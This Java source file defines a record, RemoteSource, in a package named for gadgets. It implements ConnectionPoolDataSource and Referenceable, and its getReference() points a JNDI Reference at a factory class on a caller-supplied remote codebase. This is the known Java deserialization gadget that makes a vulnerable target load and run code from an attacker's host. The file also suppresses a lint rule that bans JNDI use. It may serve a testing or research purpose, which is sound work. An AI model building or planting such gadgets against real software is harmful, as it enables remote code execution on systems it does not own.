package dev.baton.codec.gadget;

import java.io.PrintWriter;
import java.util.logging.Logger;
import javax.naming.Reference;
import javax.naming.Referenceable;
import javax.sql.ConnectionPoolDataSource;
import javax.sql.PooledConnection;

/** Is not serializable itself, so that a reference to a class at an address is written instead. */
@SuppressWarnings("BanJNDI") // Nothing is looked up.
record RemoteSource(String codebase) implements ConnectionPoolDataSource, Referenceable {
    @Override
    public Reference getReference() {
        return new Reference("remote", "remote.Factory", codebase);
    }

    @Override
    public PooledConnection getPooledConnection() {
        throw new UnsupportedOperationException();
    }

    @Override
    public PooledConnection getPooledConnection(String user, String password) {
        throw new UnsupportedOperationException();
    }

    @Override
    public PrintWriter getLogWriter() {
        throw new UnsupportedOperationException();
    }

    @Override
    public void setLogWriter(PrintWriter out) {
        throw new UnsupportedOperationException();
    }

    @Override
    public void setLoginTimeout(int seconds) {
        throw new UnsupportedOperationException();
    }

    @Override
    public int getLoginTimeout() {
        throw new UnsupportedOperationException();
    }

    @Override
    public Logger getParentLogger() {
        throw new UnsupportedOperationException();
    }
}
